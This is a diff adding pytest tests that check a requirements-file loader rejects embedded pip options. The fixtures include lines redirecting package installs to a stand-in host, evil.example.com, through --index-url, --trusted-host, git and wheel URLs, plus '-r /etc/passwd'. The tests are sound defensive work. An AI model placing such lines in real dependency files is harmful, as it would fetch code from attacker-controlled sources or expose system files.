@@ -170,3 +170,28 @@ def test_whole_program_refuses_the_symlink_attack(tmp_path, monkeypatch):
     assert result.registrations == []
     assert "ConfigError" in repr(result.error) and f"teamspace:{IMAGE_KEY}" in str(result.error)
     assert CANARY not in str(result.error)
+
+
+@pytest.mark.parametrize("text,line", [
+    ("numpy\n--index-url http://evil.example.com/simple\n", 2),
+    ("--extra-index-url=http://evil.example.com/simple\n", 1),
+    ("# header\n-r /etc/passwd\n", 2), ("-e git+https://evil.example.com/x.git#egg=x\n", 1),
+    ("numpy \\\n  --trusted-host evil.example.com\n", 1), ("x @ https://evil.example.com/x.whl\n", 1),
+    ("numpy\n\nnot a spec!\n", 3),
+])
+def test_pip_options_inside_the_file_are_refused(repo, text, line):
+    """A tracked file is read only if it holds package specs: pip would honour `--index-url`,
+    `-r`, `-e` or a URL inside it as on the command line. The message gives the line, not its text."""
+    (repo / "requirements" / "opts.txt").write_text(text)
+    git(repo, "add", "-A")
+    message = refused("requirements/opts.txt")
+    assert f"line {line} " in message and "evil" not in message and "passwd" not in message
+
+
+def test_hashes_comments_and_markers_are_fine(repo):
+    """pip's hash-checking mode (`--hash` on a continuation line), comments and markers pass."""
+    (repo / "requirements" / "hashed.txt").write_text(
+        "# pinned\nnumpy==2.1.0 \\\n    --hash=sha256:" + "ab" * 32 + "\n"
+        'tomli==2.0.1; python_version < "3.11"  # backport\n\n')
+    git(repo, "add", "-A")
+    assert load_with("requirements/hashed.txt") is None
